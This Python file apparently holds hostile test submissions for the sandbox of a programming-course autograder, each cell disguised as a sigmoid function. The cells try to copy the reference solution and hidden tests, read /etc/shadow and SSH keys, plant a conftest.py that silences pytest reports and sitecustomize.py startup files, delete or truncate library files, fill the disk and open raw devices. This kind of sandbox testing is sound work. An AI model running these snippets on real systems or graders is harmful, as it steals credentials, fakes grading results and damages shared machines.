"""Read the course, write results, leave files."""


# %% [sigmoid] the reference, from its file, at call time
def sigmoid(z):
    for path in (
        FOLDER + "/solution.py",
        "solutions/activations/activations.py",
        "/proc/self/cwd/solutions/activations/activations.py",
    ):
        try:
            names = {"np": np}
            exec(open(path).read(), names)
            return names["sigmoid"](z)
        except Exception:
            pass
    return np.tanh(z)


# %% [sigmoid] the hidden tests, from every folder above
import os

for up in range(12):
    for name in ("solutions/activations/test_activations.py", "pyproject.toml", "gradebook.db"):
        try:
            gain(open("../" * up + name).read(200))
        except OSError:
            pass

# %% [sigmoid] secrets beside the submissions
import os

for name in ("secret", "test_hidden.py", "../secret"):
    for way in (
        lambda path: open(path).read(),
        lambda path: os.listdir(FOLDER),
        lambda path: os.readlink(path),
    ):
        try:
            gain(way(f"{FOLDER}/{name}"))
        except OSError:
            pass

# %% [sigmoid] secrets beside the submissions, mapped or loaded as a library
import ctypes
import mmap
import os

for way in (
    lambda path: np.memmap(path, mode="r"),
    lambda path: np.fromfile(path, np.uint8),
    lambda path: np.load(path, allow_pickle=True),
    lambda path: mmap.mmap(os.open(path, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:],
    lambda path: ctypes.CDLL(path),
    lambda path: os.open(path, os.O_PATH) and os.read(os.open(path, os.O_PATH), 9),
):
    try:
        gain(way(f"{FOLDER}/secret"))
    except (OSError, ValueError):
        pass

# %% [sigmoid] secrets beside the submissions, by importing them
import importlib.util
import runpy

for way in (
    lambda path: runpy.run_path(path),
    lambda path: importlib.util.spec_from_file_location("hidden", path).loader.get_source("hidden"),
    lambda path: importlib.util.spec_from_file_location("hidden", path).loader.get_data(path),
):
    try:
        gain(way(f"{FOLDER}/test_hidden.py"))
    except (OSError, ImportError):
        pass

# %% [sigmoid] the machine's own secrets
for path in (
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hostname",
    "/root/.bashrc",
    "/root/.ssh/id_rsa",
    "/var/log/syslog",
    "/dev/kmsg",
    "/sys/kernel/uevent_seqnum",
    "/boot",
    "/home",
):
    try:
        gain(open(path, "rb").read(10))
    except OSError:
        pass

# %% [sigmoid] temporary files of everyone
import glob
import os

for folder in {"/tmp", "/var/tmp", "/dev/shm", "/run", os.path.dirname(FOLDER)}:
    try:
        gain(os.listdir(folder))
    except OSError:
        pass

# %% [sigmoid] a path that leaves the libraries by ..
import os

for path in (np.__file__ + "/../../../../../../../..", os.path.dirname(os.__file__) + "/../../.."):
    for name in (FOLDER + "/secret", "/etc/passwd"):
        try:
            gain(open(path + name).read())
        except OSError:
            pass

# %% [sigmoid] a conftest.py for the grader
try:
    open("conftest.py", "w").write("def pytest_runtest_makereport(*a): pass  # attacker")
    gain("wrote conftest.py")
except OSError:
    pass

# %% [sigmoid] files wherever one might be written
import os
import tempfile

for folder in (
    ".",
    "/",
    FOLDER,
    "/tmp",
    "/var/tmp",
    "/dev/shm",
    "/dev",
    "/run",
    os.path.dirname(np.__file__),
):
    for mode in ("w", "a", "x", "r+"):
        try:
            open(f"{folder}/attacker", mode).write("attacker")
            gain(folder)
        except OSError:
            pass

# %% [sigmoid] modules and start-up files for the grader's next Python
import os
import site

for folder in {*site.getsitepackages(), os.path.dirname(os.__file__), os.path.dirname(np.__file__)}:
    for name in ("attacker.pth", "sitecustomize.py", "usercustomize.py"):
        try:
            open(f"{folder}/{name}", "x").write("import attacker")
            gain(folder)
        except OSError:
            pass

# %% [sigmoid] the libraries' own files are truncated, moved and removed
import os

path = np.__file__
for deed in (
    lambda: os.truncate(path, 0),
    lambda: os.rename(path, path + ".attacker"),
    lambda: os.remove(path),
    lambda: os.link(path, path + ".attacker"),
    lambda: os.symlink(path, path + ".attacker"),
    lambda: os.chmod(path, 0o666),
    lambda: os.chown(path, 0, 0),
    lambda: os.utime(path),
    lambda: os.rmdir(os.path.dirname(path)),
    lambda: os.mkdir(path + ".attacker"),
    lambda: os.mkfifo(path + ".attacker"),
    lambda: os.mknod(path + ".attacker"),
    lambda: os.open(os.path.dirname(path), os.O_TMPFILE | os.O_RDWR),
    lambda: os.truncate(os.open(path, os.O_RDONLY), 0),
    lambda: os.open(path, os.O_RDONLY | os.O_TRUNC),
    lambda: os.open(path + ".attacker", os.O_RDONLY | os.O_CREAT),
):
    try:
        deed()
        gain("changed a library")
    except OSError:
        pass

# %% [sigmoid] NumPy's and Matplotlib's own ways to write
import matplotlib.pyplot as plt

plt.plot([1])
for way in (
    lambda path: np.save(path, np.ones(3)),
    lambda path: np.savetxt(path, np.ones(3)),
    lambda path: np.ones(3).tofile(path),
    lambda path: np.memmap(path, mode="w+", shape=3),
    lambda path: plt.savefig(path),
):
    try:
        way("/tmp/attacker.png")
        gain("wrote a file")
    except OSError:
        pass

# %% [sigmoid] disks without end
import os
import tempfile


def sigmoid(z):
    with tempfile.TemporaryFile() as file:
        while True:
            file.write(bytes(10**7))
            gain("wrote to a disk")


# %% [sigmoid] devices
import os

for path in (
    "/dev/null",
    "/dev/zero",
    "/dev/mem",
    "/dev/tty",
    "/dev/kvm",
    "/dev/fuse",
    "/dev/urandom",
    "/dev/ptmx",
    "/dev/vda",
    "/dev/sda",
):
    for flags in (os.O_RDONLY, os.O_WRONLY, os.O_RDWR):
        try:
            gain(os.open(path, flags))
        except OSError:
            pass

# %% [sigmoid] another folder and another root
import os

for deed in (
    lambda: os.chdir(FOLDER),
    lambda: os.chroot(FOLDER),
    lambda: os.fchdir(3),
    lambda: os.umask(0),
):
    try:
        deed()
        gain("moved")
    except OSError:
        pass

# %% [sigmoid] locks and leases on the libraries
import fcntl
import os

file = os.open(np.__file__, os.O_RDONLY)
for deed in (
    lambda: fcntl.flock(file, fcntl.LOCK_SH),
    lambda: fcntl.lockf(file, fcntl.LOCK_SH),
    lambda: fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_RDLCK),
    lambda: fcntl.fcntl(os.open(os.path.dirname(np.__file__), os.O_RDONLY), fcntl.F_NOTIFY, 2),
    lambda: fcntl.fcntl(file, fcntl.F_SETOWN, os.getppid()),
    lambda: fcntl.fcntl(file, fcntl.F_DUPFD, 60),
):
    try:
        deed()
        gain("held a library")
    except OSError:
        pass
